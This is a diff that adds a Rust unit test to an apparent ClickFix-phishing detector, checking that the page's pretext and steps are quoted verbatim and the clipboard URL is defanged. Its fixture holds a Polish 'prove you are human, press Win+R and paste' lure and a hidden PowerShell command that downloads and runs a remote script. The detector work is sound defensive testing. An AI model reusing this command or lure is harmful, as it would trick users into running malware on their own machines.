@@ -3126,6 +3126,43 @@ mod tests {
     }
 
     #[test]
+    fn the_pretext_and_steps_are_quoted_as_the_page_wrote_them() {
+        use crate::snapshot::Clipboard;
+        use crate::verdict::Options;
+        // eval23: "jestes człowiekiem", "insan oldugunuzu dogrulayin" were shown folded.
+        let snap = Snapshot {
+            url: "https://weryfikacja-dostepu.example/".into(),
+            title: "Weryfikacja".into(),
+            text:
+                "Potwierdź, że jesteś człowiekiem. Naciśnij Win+R, wklej Ctrl+V i naciśnij Enter."
+                    .into(),
+            clipboard: Clipboard {
+                text: "powershell -w hidden -c \"iwr https://198.51.100.4/a.ps1 | iex\"".into(),
+                via: "writeText".into(),
+            },
+            ..Default::default()
+        };
+        let v = crate::engine::analyse(&snap, &Options::default());
+        assert_eq!(v.kind, Kind::Clickfix);
+        let said = |id: ReasonId| match v.reasons.iter().find(|r| r.id == id).map(|r| &r.detail) {
+            Some(Detail::Excerpt { text }) => text.clone(),
+            d => panic!("{id:?}: {d:?}"),
+        };
+        let pretext = said(ReasonId::VerificationPretext);
+        assert!(
+            snap.text.contains(&pretext) && pretext.contains("jesteś"),
+            "{pretext}"
+        );
+        let steps = said(ReasonId::RunInstructions);
+        assert!(
+            steps.contains("Win+R") || steps.contains("Ctrl+V"),
+            "{steps}"
+        );
+        // The command is not page text: still as the engine defanged it.
+        assert!(!said(ReasonId::ClipboardCommand).contains("198.51.100.4/a"));
+    }
+
+    #[test]
     fn steps_given_only_in_a_dialog_count() {
         use crate::snapshot::Clipboard;
         use crate::verdict::Options;
